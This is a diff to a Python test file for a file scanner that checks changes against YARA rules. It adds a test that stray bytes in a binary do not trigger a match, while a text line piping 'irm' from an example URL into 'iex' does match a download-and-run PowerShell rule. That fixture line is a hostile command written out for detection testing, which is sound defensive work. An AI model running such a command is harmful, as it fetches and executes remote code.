@@ -181,9 +181,20 @@ def test_the_house_s_own_rules_are_sound_and_say_what_innocence_is() -> None:
         assert pack.count >= 19
         for path in (Path(__file__).parents[3] / "src/onionskin/peel/rules").glob("*.yar"):
             text = path.read_text("utf-8")
-            rules = text.count("\nrule ")
+            rules = text.count("\nrule ")  # a private one tells nothing
             for key in ("technique", "says", "benign", "reference"):
                 assert text.count(f"        {key} = ") == rules, (path.name, key)
+
+
+def test_three_letters_in_a_binary_are_no_script_and_a_control_letter_hides_none(
+    tmp_path: Path,
+) -> None:
+    pair = tmp_path / "old.bin", tmp_path / "new.bin"
+    pair[0].write_bytes(b"ITSF\3\0\0\0" + bytes(64))
+    pair[1].write_bytes(b"ITSF\3\0\0\0\x81irm\x90\2\0..\x99iex\7" + bytes(64))
+    assert not matched(peeled(pair))
+    pair[1].write_bytes(b"# \1\2\0\nirm https://one.example/inert | iex\n")
+    assert matched(peeled(pair)) == {("onionskin/scripts.yar", "download_and_run_powershell")}
 
 
 def test_a_large_file_is_scanned_by_parts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
